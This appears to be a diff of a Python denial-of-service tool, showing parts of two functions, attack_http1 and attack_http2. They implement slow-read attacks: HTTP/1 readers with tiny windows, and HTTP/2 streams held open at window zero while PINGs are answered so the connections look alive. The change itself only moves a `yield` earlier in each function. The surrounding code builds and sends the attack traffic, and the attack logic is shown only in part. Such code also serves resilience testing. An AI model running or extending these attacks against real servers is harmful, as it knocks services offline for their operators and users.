@@ -13,9 +13,9 @@ def large_paths(target):
 
 def attack_http1(target):
     """Many readers with a small window that take the first bytes and stop."""
+    yield
     head = "".join(f"{name}: {value}\r\n" for name, value in target.key_headers("read").items())
     paths = large_paths(target)
-    yield
     held = []
     while not target.stop.is_set():
         while len(held) < target.sizes.stalled and not target.stop.is_set():
@@ -41,6 +41,7 @@ def attack_http1(target):
 
 def attack_http2(target):
     """Many streams on few connections with a window of 0; every PING is answered, so the connections look alive."""
+    yield
     headers, paths = list(target.key_headers("read").items()), large_paths(target)
     blocks = [wire.header_block("GET", path, headers) for path in paths]
 
@@ -50,7 +51,6 @@ def attack_http2(target):
         connection.sendall(b"".join(wire.headers_frame(2 * number + 1, blocks[number % len(blocks)]) for number in range(target.sizes.streams)))
         return connection, wire.FrameReader()
 
-    yield
     held = []
     while not target.stop.is_set():
         while len(held) < 4 and not target.stop.is_set():
